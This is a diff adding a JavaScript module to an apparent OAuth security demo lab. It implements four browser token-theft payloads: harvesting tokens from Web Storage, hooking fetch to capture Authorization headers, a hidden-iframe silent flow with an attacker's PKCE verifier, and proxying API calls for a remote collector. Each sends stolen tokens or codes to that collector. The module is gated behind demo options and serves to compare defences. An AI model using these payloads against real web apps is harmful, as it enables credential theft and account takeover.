@@ -1,0 +1,236 @@
+// DEMO ONLY: the four payloads of RFC 10017 §5.1, as malicious JavaScript running in this page would run them,
+// against the architecture and storage the person chose. What they take goes to the collector (the attacker's
+// server, config.collector), which uses it against the API later, also after this tab is closed, and records what
+// worked (docs/browser-apps.md, "The attack table"). Without the demo options the page has no collector and its
+// Content-Security-Policy lets no fetch reach one: nothing here runs.
+import config from "/config.js";
+
+export const PAYLOADS = {
+  "steal-once": "§5.1.1 steal tokens once",
+  "steal-persistently": "§5.1.2 steal tokens persistently",
+  "new-flow": "§5.1.3 acquire new tokens with a silent flow",
+  proxy: "§5.1.4 proxy requests through the open page",
+};
+export const enabled = () => Boolean(config.collector);
+// How often the persistent payloads look again and the proxy polls (a test may shorten it before a run).
+export const timing = { intervalMs: 3000, silentFlowMs: 8000 };
+const TOKEN_FIELDS = ["access_token", "refresh_token"];
+
+// Send what was taken to the collector: a "simple" request (text/plain, no preflight), as an attacker would.
+async function send(context, payload, record) {
+  const body = JSON.stringify({ run: context.run, architecture: context.architecture, storage: context.storage, payload, ...record });
+  try {
+    const response = await fetch(`${config.collector}/collect`, { method: "POST", body, headers: { "Content-Type": "text/plain" }, keepalive: true });
+    return response.status;
+  } catch {
+    return 0;
+  }
+}
+
+// Listen to the page's own fetch while `act` runs: the Authorization (and DPoP) header of its call of the API.
+// An in-memory token is a variable no script can name, yet every request the app makes carries it (§8).
+async function overhear(act) {
+  const original = window.fetch;
+  let heard = null;
+  window.fetch = function hooked(input, init = {}) {
+    const headers = new Headers(init.headers ?? (input instanceof Request ? input.headers : undefined));
+    const authorization = headers.get("authorization");
+    if (authorization && String(input.url ?? input).startsWith(config.api)) {
+      const [scheme, token] = authorization.split(" ");
+      heard = { token, scheme };
+    }
+    return original.apply(this, [input, init]);
+  };
+  try {
+    await act();
+  } finally {
+    window.fetch = original;
+  }
+  return heard;
+}
+
+// Everything the page exposes to a script, for this architecture and storage: [{what, token, bound}] and notes.
+export async function loot({ architecture, storage }) {
+  const app = await import("./browser_client.js"); // the app's own module: any script on the origin can import it
+  const found = new Map();
+  const notes = [];
+  const take = (what, token, bound = false) => token && !found.has(token) && found.set(token, { what, token, bound });
+  for (const area of [localStorage, sessionStorage]) {
+    for (let i = 0; i < area.length; i += 1) {
+      let value = null;
+      try {
+        value = JSON.parse(area.getItem(area.key(i)));
+      } catch {}
+      for (const field of TOKEN_FIELDS) if (value && typeof value[field] === "string") take(field, value[field], storage === "dpop");
+    }
+  }
+  if (architecture !== "bff") {
+    const heard = await overhear(() => app.callApi({ architecture, storage }));
+    if (heard) take("access_token", heard.token, heard.scheme === "DPoP");
+    else notes.push("the page made no API call with a token");
+  }
+  if (architecture !== "browser") {
+    // The token-mediating endpoint answers any script of the page: it sends the same X-CSRF and Origin the app does.
+    try {
+      const response = await fetch(`${config.bff}/bff/token`, { credentials: "include", headers: { "X-CSRF": "1" } });
+      const body = response.ok ? await response.json() : null;
+      if (body?.access_token) take("access_token", body.access_token);
+      else notes.push(`the BFF's /bff/token answered ${response.status}: no token for the page`);
+    } catch (error) {
+      notes.push(`the BFF's /bff/token: ${error.message}`);
+    }
+  }
+  if (storage === "worker") notes.push("the refresh token is in the worker's memory: no script of the page can read it");
+  if (storage === "dpop") {
+    const keys = await app.dpopKeys();
+    try {
+      await crypto.subtle.exportKey("jwk", keys.privateKey);
+      notes.push("the DPoP private key was exported");
+    } catch (error) {
+      notes.push(`the DPoP private key stays in the browser: ${error.name} (non-extractable)`);
+    }
+  }
+  return { found: [...found.values()], notes };
+}
+
+// §5.1.1: take what is there once, send it, leave.
+async function stealOnce(context, payload = "steal-once") {
+  const { found, notes } = await loot(context);
+  for (const item of found) await send(context, payload, { what: item.what, token: item.token, bound: item.bound });
+  if (found.length === 0) await send(context, payload, { what: "nothing", note: notes.join("; ") });
+  return { got: found.map((item) => item.what), notes };
+}
+
+// §5.1.2: the same, again on every change of Web Storage and on a timer, for as long as the page is open.
+async function stealPersistently(context) {
+  const seen = new Set();
+  const got = new Set();
+  let notes = [];
+  const again = async () => {
+    const taken = await loot(context);
+    notes = taken.notes;
+    for (const item of taken.found.filter((item) => !seen.has(item.token))) {
+      seen.add(item.token);
+      got.add(item.what);
+      await send(context, "steal-persistently", { what: item.what, token: item.token, bound: item.bound });
+    }
+  };
+  await again();
+  if (seen.size === 0) await send(context, "steal-persistently", { what: "nothing", note: notes.join("; ") });
+  const setItem = Storage.prototype.setItem;
+  Storage.prototype.setItem = function watched(key, value) {
+    setItem.call(this, key, value);
+    queueMicrotask(again);
+  };
+  const timer = setInterval(again, timing.intervalMs);
+  const stop = () => {
+    clearInterval(timer);
+    Storage.prototype.setItem = setItem;
+  };
+  return { got: [...got], notes, stop };
+}
+
+// §5.1.3: a hidden iframe runs the app's own client's flow with `prompt=none` and the attacker's PKCE verifier; the
+// code comes back to the app's redirect URI, on this origin, where the script reads it before anyone else.
+async function newFlow(context) {
+  const oauth = await import("./vendor/oauth4webapi.js");
+  const app = await import("./browser_client.js");
+  const as = await app.authorizationServer();
+  // The only client this app has: a BFF's is confidential, and its code goes to the BFF's callback.
+  const browser = context.architecture === "browser";
+  const clientId = browser ? config.clientId : `authlab-bff-${config.name.toLowerCase()}`;
+  const redirectUri = browser ? `${location.origin}/` : `${config.bff}/bff/callback`;
+  const verifier = oauth.generateRandomCodeVerifier();
+  const state = oauth.generateRandomState();
+  const url = new URL(as.authorization_endpoint);
+  url.search = new URLSearchParams({
+    client_id: clientId, redirect_uri: redirectUri, response_type: "code", state, prompt: "none",
+    code_challenge: await oauth.calculatePKCECodeChallenge(verifier), code_challenge_method: "S256",
+  });
+  const frame = Object.assign(document.createElement("iframe"), { hidden: true, title: "", src: url.href });
+  frame.setAttribute("aria-hidden", "true");
+  document.body.append(frame);
+  const answer = await new Promise((resolve) => {
+    const started = Date.now();
+    const look = setInterval(() => {
+      let href = null;
+      try {
+        href = frame.contentWindow.location.href; // readable once the frame is back on this origin
+      } catch {}
+      const params = href?.startsWith(location.origin) ? new URL(href).searchParams : null;
+      if (params?.get("state") === state || Date.now() - started > timing.silentFlowMs) {
+        clearInterval(look);
+        resolve(params);
+      }
+    }, 10);
+  });
+  frame.remove();
+  if (answer?.get("code")) {
+    await send(context, "new-flow", { what: "authorization_code", code: answer.get("code"), code_verifier: verifier, client_id: clientId, redirect_uri: redirectUri, iss: answer.get("iss") });
+    return { got: ["authorization_code"], notes: [] };
+  }
+  const note = answer?.get("error")
+    ? `the AS answered ${answer.get("error")}${answer.get("error_description") ? `: ${answer.get("error_description")}` : ""}`
+    : browser
+      ? `no code within ${timing.silentFlowMs / 1000} s: the frame never came back to this origin (the AS's session cookie did not reach it in a frame, or the AS refused to be framed)`
+      : "the code went to the BFF's callback, another origin: out of this script's reach, and useless without the BFF's secret";
+  await send(context, "new-flow", { what: "nothing", note });
+  return { got: [], notes: [note] };
+}
+
+// §5.1.4: the collector queues requests; the page, while open, performs each with the app's own credentials (the
+// BFF's cookie, the held token, the DPoP key) and hands back the answers. Closing the tab ends it.
+function proxy(context) {
+  let stopped = false;
+  const base = `${config.collector}/proxy/${encodeURIComponent(context.run)}`;
+  const tick = async () => {
+    if (stopped) return;
+    try {
+      const response = await fetch(`${base}?${new URLSearchParams({ architecture: context.architecture, storage: context.storage })}`);
+      if (response.status === 200) {
+        const job = await response.json();
+        const app = await import("./browser_client.js");
+        const { status, body } = await app.callApi(context, job.path ?? "jwt/me");
+        await fetch(`${base}/${encodeURIComponent(job.id)}`, { method: "POST", headers: { "Content-Type": "text/plain" }, body: JSON.stringify({ status, body }) });
+      }
+    } catch {}
+    if (!stopped) setTimeout(tick, timing.intervalMs);
+  };
+  tick();
+  return Promise.resolve({ got: [], notes: ["serving the collector's requests while this page is open"], stop: () => { stopped = true; } });
+}
+
+const RUN = { "steal-once": stealOnce, "steal-persistently": stealPersistently, "new-flow": newFlow, proxy };
+const running = [];
+
+// Run one payload: {got: [what was taken], notes, stop?}. Tells the collector when this page goes away.
+export async function runPayload(payload, context) {
+  if (!enabled()) throw new Error("the malicious scripts are a demo part: off without the demo options");
+  if (!RUN[payload]) throw new Error(`no payload ${payload}`);
+  watchClose(context.run);
+  const result = await RUN[payload](context);
+  if (result.stop) running.push(result.stop);
+  return result;
+}
+
+// Stop every persistent payload and the proxy of this page (a new run starts clean).
+export function stopAll() {
+  while (running.length) running.pop()();
+}
+
+const watched = new Set();
+function watchClose(run) {
+  if (watched.has(run)) return;
+  watched.add(run);
+  addEventListener("pagehide", () => navigator.sendBeacon(`${config.collector}/runs/${encodeURIComponent(run)}/closed`, ""));
+}
+
+// The collector's records of a run: {run, closed_at, records: [...]} (docs/browser-apps.md), or null.
+export async function records(run) {
+  try {
+    const response = await fetch(`${config.collector}/runs/${encodeURIComponent(run)}`, { signal: AbortSignal.timeout(5000) });
+    return response.ok ? await response.json() : null;
+  } catch {
+    return null;
+  }
+}
